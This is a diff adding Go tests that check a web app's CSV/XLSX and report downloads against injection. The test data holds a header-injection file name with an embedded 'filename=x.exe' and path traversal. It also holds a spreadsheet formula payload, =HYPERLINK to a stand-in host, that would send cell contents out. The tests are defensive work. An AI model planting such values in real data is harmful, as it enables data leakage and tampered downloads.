@@ -3,6 +3,9 @@ package web
 import (
 	"bytes"
 	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"mime"
 	"net/http"
 	"strings"
 	"testing"
@@ -62,4 +65,92 @@ func TestUnitsTableDownloadsAsCSVAndXLSXWithinScope(t *testing.T) {
 			t.Errorf("another district: %d", res.Code)
 		}
 	})
+}
+
+// TestDownloadsAreNamedAfterTheUnitSafely: the files downloaded carry the
+// unit's name as typed (quotes, semicolons, slashes, Vietnamese letters) in
+// an RFC 6266 header that none of it can break.
+func TestDownloadsAreNamedAfterTheUnitSafely(t *testing.T) {
+	f := newFixture(t, Options{})
+	f.withReportWeek()
+	const name = `Quận "Hai Bà"; filename=x.exe ../a/b\c Trưng`
+	const clean = `Quận -Hai Bà-; filename=x.exe ..-a-b-c Trưng`
+	body, _ := json.Marshal(map[string]any{"name": name, "version": 1})
+	if res := f.do("PATCH", "/api/v1/units/HN.HBT", f.tokens["admin"], string(body)); res.Code != http.StatusOK {
+		t.Fatalf("rename: %d %s", res.Code, res.Body)
+	}
+	if res := f.do("POST", "/api/v1/units/HN.HBT/reports", f.tokens["board"], `{"week":"2020-W12"}`); res.Code != http.StatusCreated {
+		t.Fatalf("make the report: %d %s", res.Code, res.Body)
+	}
+	b := f.browser("")
+	b.login("board", testPassword)
+	for _, tc := range []struct {
+		path, kind, want, fallback string
+	}{
+		{"/units/HN.HBT/table.csv", "attachment", clean + " HN-HBT-", "Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN-HBT-"},
+		{"/units/HN.HBT/table.xlsx", "attachment", clean + " HN-HBT-", "Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN-HBT-"},
+		{"/units/HN.HBT/reports/2020-W12/report.xlsx", "attachment", "Báo cáo tuần " + clean + " HN.HBT-2020-W12.xlsx", "Bao-cao-tuan-Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN.HBT-2020-W12.xlsx"},
+		{"/units/HN.HBT/reports/2020-W12/report.html", "inline", "Báo cáo tuần " + clean + " HN.HBT-2020-W12.html", "Bao-cao-tuan-Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN.HBT-2020-W12.html"},
+	} {
+		t.Run(tc.path, func(t *testing.T) {
+			res := b.send("GET", tc.path, nil)
+			cd := res.Header().Get("Content-Disposition")
+			if res.Code != http.StatusOK {
+				t.Fatalf("%d %s", res.Code, res.Body)
+			}
+			kind, params, err := mime.ParseMediaType(cd)
+			if err != nil || kind != tc.kind || !strings.HasPrefix(params["filename"], tc.want) {
+				t.Errorf("Content-Disposition %q: %q %q %v; want %s with the name %q", cd, kind, params["filename"], err, tc.kind, tc.want)
+			}
+			if !strings.Contains(cd, `filename="`+tc.fallback) || strings.Count(cd, ";") != 2 {
+				t.Errorf("Content-Disposition %q: want the ASCII fallback %q and two parameters", cd, tc.fallback)
+			}
+		})
+	}
+}
+
+// TestUnitsTableMakesNamesThatLookLikeFormulasInert: a unit named like a
+// formula downloads as inert text in the CSV and as a text cell in the XLSX.
+func TestUnitsTableMakesNamesThatLookLikeFormulasInert(t *testing.T) {
+	f := newFixture(t, Options{})
+	f.withRound()
+	const name = `=HYPERLINK("http://x.example/?"&A1,"Bấm")`
+	body, _ := json.Marshal(map[string]any{"name": name, "version": 1})
+	if res := f.do("PATCH", "/api/v1/units/HN.HBT.A", f.tokens["admin"], string(body)); res.Code != http.StatusOK {
+		t.Fatalf("rename: %d %s", res.Code, res.Body)
+	}
+	b := f.browser("")
+	b.login("board", testPassword)
+	res := b.send("GET", "/units/HN.HBT/table.csv", nil)
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range recs[1:] {
+		if r[0] == "HN.HBT.A" {
+			found = r[1] == "'"+name
+		}
+	}
+	if !found {
+		t.Errorf("the CSV does not hold the name made inert: %q", recs)
+	}
+	res = b.send("GET", "/units/HN.HBT/table.xlsx", nil)
+	x, err := excelize.OpenReader(bytes.NewReader(res.Body.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.Close()
+	rows, _ := x.GetRows("Tiến độ")
+	for i, r := range rows {
+		if r[0] != "HN.HBT.A" {
+			continue
+		}
+		cell := fmt.Sprintf("B%d", i+1)
+		typ, _ := x.GetCellType("Tiến độ", cell)
+		formula, _ := x.GetCellFormula("Tiến độ", cell)
+		if r[1] != name || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
+			t.Errorf("%s = %q (type %v, formula %q), want the name as text", cell, r[1], typ, formula)
+		}
+	}
 }
